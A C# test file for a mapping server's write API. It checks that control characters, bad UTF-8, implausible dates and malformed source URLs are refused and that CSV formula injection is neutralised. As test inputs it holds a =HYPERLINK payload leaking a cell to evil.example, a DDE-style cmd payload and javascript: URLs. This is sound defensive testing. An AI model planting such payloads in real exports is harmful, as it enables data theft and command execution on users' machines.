using System.Globalization;
using System.Net;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using System.Xml.Linq;
using CsvHelper;
using static FrontlineMaps.Server.Tests.Write.Http;

namespace FrontlineMaps.Server.Tests.Write;

/// <summary>
/// Issue 15, items 1–6, through real HTTP on a SQLite store: control characters, CSV formula injection, implausible dates,
/// invalid UTF-8 and lone surrogates, what is acknowledged being what is stored, and source URLs.
/// </summary>
public class HostileInputTests(SqliteWriteServer server) : IClassFixture<SqliteWriteServer>
{
    private const string Source = "aranews-2015-10-14-aleppo";
    private static int _serial;

    private static string Next(string prefix) => $"{prefix}-{Interlocked.Increment(ref _serial)}";

    /// <summary>Every free-text field of every write, as (role, URL, body with <c>bad</c> in that field, the field named).</summary>
    private static IEnumerable<(string Role, string Url, Func<string, JsonNode> Body, string Parameter)> FreeTextFields(string claimId)
    {
        JsonObject SourceRecord() => new() { ["id"] = Next("h15-src"), ["publisher"] = "P", ["title"] = "T" };
        JsonObject Place() => new() { ["id"] = Next("h15-place"), ["name"] = "N", ["kind"] = "village", ["lon"] = 36.5, ["lat"] = 35.5 };
        JsonObject Faction() => new() { ["id"] = Next("H15F"), ["name"] = "F", ["short_name"] = "F", ["color"] = "#123456" };
        JsonObject Claim() => JsonNode.Parse(Change("ejaz-idlib", "SAA", "2020-01-15", source: Source))!.AsObject();
        yield return ("editor", "/api/sources", bad => With(SourceRecord(), "publisher", bad), "publisher");
        yield return ("editor", "/api/sources", bad => With(SourceRecord(), "title", bad), "title");
        foreach (var field in new[] { "name", "governorate", "district", "subdistrict", "pcode", "note" })
            yield return ("admin", "/api/places", bad => With(Place(), field, bad), field);
        yield return ("admin", "/api/places", bad => With(Place(), "names", new JsonArray("fine", "x" + bad)), "names");
        yield return ("admin", "/api/factions", bad => With(Faction(), "name", bad), "name");
        yield return ("admin", "/api/factions", bad => With(Faction(), "short_name", bad), "short_name");
        yield return ("admin", "/api/factions", bad => With(Faction(), "aliases", new JsonArray("x" + bad)), "aliases");
        yield return ("editor", "/api/changes", bad => With(Claim(), "note", "a note " + bad), "note");
        yield return ("editor", "/api/changes", bad =>
        {
            var c = Claim();
            c["sources"] = new JsonArray(new JsonObject { ["source"] = Source, ["claimant"] = "SANA" + bad });
            return c;
        }, "sources[0].claimant");
        yield return ("editor", "/api/changes", bad => new JsonArray(Claim(), With(Claim(), "note", bad)), "changes[1].note");
        yield return ("reviewer", "/api/changes/r002-ejaz-hts-capture/retract", bad => new JsonObject { ["note"] = "why" + bad }, "note");
        yield return ("reviewer", $"/api/changes/{claimId}/review", bad => new JsonObject { ["verdict"] = "disputed", ["note"] = bad + "x" }, "note");
    }

    private static JsonObject With(JsonObject o, string field, JsonNode? value)
    {
        o[field] = value;
        return o;
    }

    [Fact]
    public async Task Control_characters_in_any_free_text_field_of_any_write_are_refused_with_422_naming_the_field_and_nothing_is_written()
    {
        using var editor = server.Client("editor");
        var claimId = (await Created(editor, "/api/changes", Change("ejaz-idlib", "SDF", "2020-01-10")))
            .GetProperty("changes")[0].GetProperty("id").GetString()!;
        var version = server.Source.Current.DataVersion;
        var clients = new[] { "editor", "reviewer", "admin" }.ToDictionary(r => r, r => server.Client(r));
        var checkedCount = 0;
        foreach (var (role, url, body, parameter) in FreeTextFields(claimId))
            foreach (var bad in HostileStrings.Invalid)
            {
                var json = body("x" + bad + "y").ToJsonString();
                var problem = await Problem(clients[role], url, json, 422, parameter);
                Assert.True(problem.GetProperty("detail").GetString()!.Contains("U+", StringComparison.Ordinal), $"{url} {parameter} {json}: {problem}");
                checkedCount++;
            }
        Assert.True(checkedCount > 100);
        Assert.Equal(version, server.Source.Current.DataVersion);
        foreach (var c in clients.Values) c.Dispose();
    }

    [Fact]
    public async Task Tab_and_newline_are_accepted_in_free_text()
    {
        using var editor = server.Client("editor");
        var id = Next("h15-src");
        var body = await Created(editor, "/api/sources", new JsonObject { ["id"] = id, ["publisher"] = "P\tQ", ["title"] = "line 1\nline 2" }.ToJsonString());
        Assert.Equal("line 1\nline 2", body.GetProperty("sources")[0].GetProperty("title").GetString());
    }

    [Fact]
    public async Task A_csv_cell_that_starts_like_a_formula_is_neutralised_in_both_csv_feeds()
    {
        using var editor = server.Client("editor");
        using var admin = server.Client("admin");
        using var reader = server.Client();
        var publisher = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Reuters\")";
        var claimant = "+cmd|' /C calc'!A0";
        var placeName = "-2+3";
        var sourceId = Next("h15-csv-src");
        var placeId = Next("h15-csv-place");
        await Created(editor, "/api/sources", new JsonObject { ["id"] = sourceId, ["publisher"] = publisher, ["title"] = "@title" }.ToJsonString());
        await Created(admin, "/api/places", new JsonObject { ["id"] = placeId, ["name"] = placeName, ["kind"] = "village", ["lon"] = -0.5, ["lat"] = 35.5 }.ToJsonString());
        var change = new JsonObject
        {
            ["place"] = placeId, ["faction"] = "SAA", ["valid_from"] = "2020-01-20", ["kind"] = "capture", ["status"] = "claimed",
            ["sources"] = new JsonArray(new JsonObject { ["source"] = Source, ["claimant"] = "\tTAB" }, new JsonObject { ["source"] = sourceId, ["claimant"] = claimant }),
        };
        var id = (await Created(editor, "/api/changes", change.ToJsonString())).GetProperty("changes")[0].GetProperty("id").GetString();

        foreach (var url in new[] { "/api/changes.csv?from=2020-01-20&to=2020-01-21", "/collections/changes/items?f=csv&datetime=2020-01-20&limit=1000" })
        {
            var text = await reader.GetStringAsync(url);
            using var csv = new CsvReader(new StringReader(text), CultureInfo.InvariantCulture);
            var rows = csv.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToList();
            var row = rows.Single(r => (string)r["id"] == id);
            Assert.Equal("'" + placeName, row["place_name"]);
            Assert.Equal($"{CsvNeutral(PublisherOf(Source))};'{publisher}", row["publishers"]);
            Assert.Equal($"'\tTAB;'{claimant}", row["claimants"]);
            Assert.Equal("-0.5", row["lon"]); // numbers are numbers, not formulas
            foreach (var r in rows)
                foreach (var (name, value) in r)
                    if (name is not ("lon" or "lat") && value is string s && s.Length > 0)
                        Assert.True(Array.IndexOf(Core.Encoders.CsvCell.FormulaPrefixes, s[0]) < 0, $"{url}: cell {name} = {s}");
        }
    }

    private string PublisherOf(string sourceId) => server.Source.Current.Sources[sourceId].Publisher;

    private static string CsvNeutral(string s) => Core.Encoders.CsvCell.Neutralise(s);

    [Fact]
    public async Task Dates_outside_the_plausible_range_are_refused_with_422_naming_the_field_and_leave_the_range_alone()
    {
        using var editor = server.Client("editor");
        using var admin = server.Client("admin");
        using var reader = server.Client();
        var before = await Get(reader, "/api/timeline");
        await Problem(editor, "/api/changes", Change("ejaz-idlib", "SAA", "0001-01-01"), 422, "valid_from");
        await Problem(editor, "/api/changes", Change("ejaz-idlib", "SAA", "1899-12-31"), 422, "valid_from");
        await Problem(editor, "/api/changes", Change("ejaz-idlib", "SAA", "2020-01-01", extra: ",\"valid_to_approx\":\"9999-12-31\""), 422, "valid_to_approx");
        await Problem(editor, "/api/sources", new JsonObject { ["id"] = Next("h15-src"), ["publisher"] = "P", ["title"] = "T", ["published"] = "9999-12-31" }.ToJsonString(), 422, "published");
        await Problem(editor, "/api/sources", $$"""[{"id":"{{Next("h15-src")}}","publisher":"P","title":"T"},{"id":"{{Next("h15-src")}}","publisher":"P","title":"T","published":"1066-10-14"}]""", 422, "sources[1].published");
        await Problem(admin, "/api/factions", new JsonObject { ["id"] = Next("H15F"), ["name"] = "F", ["short_name"] = "F", ["color"] = "#123456", ["valid_from"] = "1800-01-01" }.ToJsonString(), 422, "valid_from");
        await Problem(admin, "/api/places", new JsonObject { ["id"] = Next("h15-place"), ["name"] = "N", ["kind"] = "village", ["lon"] = 36.5, ["lat"] = 35.5, ["valid_from"] = "0900-01-01" }.ToJsonString(), 422, "valid_from");
        // The first plausible day is accepted.
        await Created(editor, "/api/sources", new JsonObject { ["id"] = Next("h15-src"), ["publisher"] = "P", ["title"] = "T", ["published"] = "1900-01-01" }.ToJsonString());
        var after = await Get(reader, "/api/timeline");
        Assert.Equal(before.GetProperty("first_date").GetString(), after.GetProperty("first_date").GetString());
        Assert.Equal(HttpStatusCode.OK, (await reader.GetAsync("/api/stats/area")).StatusCode);
    }

    [Fact]
    public async Task The_plausible_range_is_configurable()
    {
        await using var narrow = await StoreServer.Sqlite("--Write:EarliestDate=2015-01-01", "--Write:LatestDate=2020-06-30");
        using var editor = narrow.Client("editor");
        var problem = await Problem(editor, "/api/changes", Change("ejaz-idlib", "SAA", "2014-12-31"), 422, "valid_from");
        Assert.Contains("2015-01-01 to 2020-06-30", problem.GetProperty("detail").GetString());
        await Problem(editor, "/api/changes", Change("ejaz-idlib", "SAA", "2020-07-01"), 422, "valid_from");
        await Created(editor, "/api/changes", Change("ejaz-idlib", "SAA", "2020-06-30"));
    }

    [Fact]
    public async Task Invalid_utf8_or_a_lone_surrogate_in_any_write_body_is_a_400_naming_body()
    {
        using var editor = server.Client("editor");
        using var reviewer = server.Client("reviewer");
        using var admin = server.Client("admin");
        var claimId = (await Created(editor, "/api/changes", Change("ejaz-idlib", "SDF", "2020-01-11")))
            .GetProperty("changes")[0].GetProperty("id").GetString()!;
        var version = server.Source.Current.DataVersion;
        var writes = new (HttpClient Client, string Url)[]
        {
            (editor, "/api/changes"), (editor, "/api/sources"), (admin, "/api/places"), (admin, "/api/factions"),
            (reviewer, "/api/changes/r002-ejaz-hts-capture/retract"), (reviewer, $"/api/changes/{claimId}/review"),
        };
        var bodies = new[]
        {
            Encoding.ASCII.GetBytes("{\"id\":\"x\",\"publisher\":\"").Concat(new byte[] { 0xFF }).Concat(Encoding.ASCII.GetBytes("\",\"title\":\"T\"}")).ToArray(),
            Encoding.ASCII.GetBytes("{\"note\":\"").Concat(new byte[] { 0xC3 }).Concat(Encoding.ASCII.GetBytes("\"}")).ToArray(), // cut sequence
            [0x7B, 0x22, 0x6E, 0x6F, 0x74, 0x65, 0x22, 0x3A, 0x22, 0xED, 0xA0, 0x80, 0x22, 0x7D], // CESU-8 surrogate bytes
            Encoding.ASCII.GetBytes("{\"note\":\"\\ud800\",\"verdict\":\"disputed\"}"),
            Encoding.ASCII.GetBytes("{\"note\":\"x\\udfff\\ud800y\"}"),
            Encoding.ASCII.GetBytes("{\"\\ud800\":1}"),
            Encoding.ASCII.GetBytes("[{\"id\":\"x\",\"publisher\":\"P\",\"title\":\"\\uDC00\"}]"),
        };
        foreach (var (client, url) in writes)
            foreach (var bytes in bodies)
            {
                using var content = new ByteArrayContent(bytes);
                content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
                using var response = await client.PostAsync(url, content);
                var text = await response.Content.ReadAsStringAsync();
                Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{url} {Convert.ToHexString(bytes)}: {(int)response.StatusCode} {text}");
                using var problem = JsonDocument.Parse(text);
                Assert.Equal("body", problem.RootElement.GetProperty("parameter").GetString());
            }
        Assert.Equal(version, server.Source.Current.DataVersion);
    }

    [Theory]
    [InlineData("https://example.com/\njavascript:alert(1)")]
    [InlineData("https://example.com/a b")]
    [InlineData("javascript:alert(1)")]
    [InlineData("https://example.com/%zz")]
    [InlineData("https://example.com/\u202Eevil")]
    [InlineData("https://example.com/a\u00A0b")]
    [InlineData("//example.com/relative")]
    [InlineData("/relative")]
    [InlineData("ftp://example.com/file")]
    [InlineData("https:example.com")]
    [InlineData("https://")]
    [InlineData("https://example.com/<script>")]
    public async Task A_source_url_that_is_not_an_absolute_http_uri_is_refused_with_422_naming_url(string url)
    {
        using var editor = server.Client("editor");
        await Problem(editor, "/api/sources", new JsonObject { ["id"] = Next("h15-src"), ["publisher"] = "P", ["title"] = "T", ["url"] = url }.ToJsonString(), 422, "url");
    }

    [Theory]
    [InlineData("https://example.com/")]
    [InlineData("http://example.com/news/2020/01/15/a-b_c~d.html?x=1&y=%E2%80%94#part")]
    [InlineData("https://example.com/%D8%A5")]
    [InlineData("https://example.com/ar/\u0642\u0648\u0627\u062A-\u0627\u0644\u062C\u064A\u0634")]
    public async Task An_absolute_http_uri_is_accepted_as_a_source_url(string url)
    {
        using var editor = server.Client("editor");
        var body = await Created(editor, "/api/sources", new JsonObject { ["id"] = Next("h15-src"), ["publisher"] = "P", ["title"] = "T", ["url"] = url }.ToJsonString());
        Assert.Equal(url, body.GetProperty("sources")[0].GetProperty("url").GetString());
    }

    [Fact]
    public async Task Every_string_field_written_on_sqlite_is_stored_exactly_as_acknowledged()
    {
        await using var store = await StoreServer.Sqlite();
        await RoundTrip.EveryStringField(store);
    }

    [SkippableFact]
    public async Task Every_string_field_written_on_postgresql_is_stored_exactly_as_acknowledged()
    {
        await using var store = await StoreServer.Postgres();
        await RoundTrip.EveryStringField(store);
    }

    [Fact]
    public async Task A_place_name_with_a_nul_and_600_more_characters_is_refused_rather_than_stored_cut()
    {
        using var admin = server.Client("admin");
        var name = "X\u0000" + new string('N', 600);
        await Problem(admin, "/api/places", new JsonObject { ["id"] = Next("h15-place"), ["name"] = name, ["kind"] = "village", ["lon"] = 36.5, ["lat"] = 35.5 }.ToJsonString(), 422, "name");
    }
}
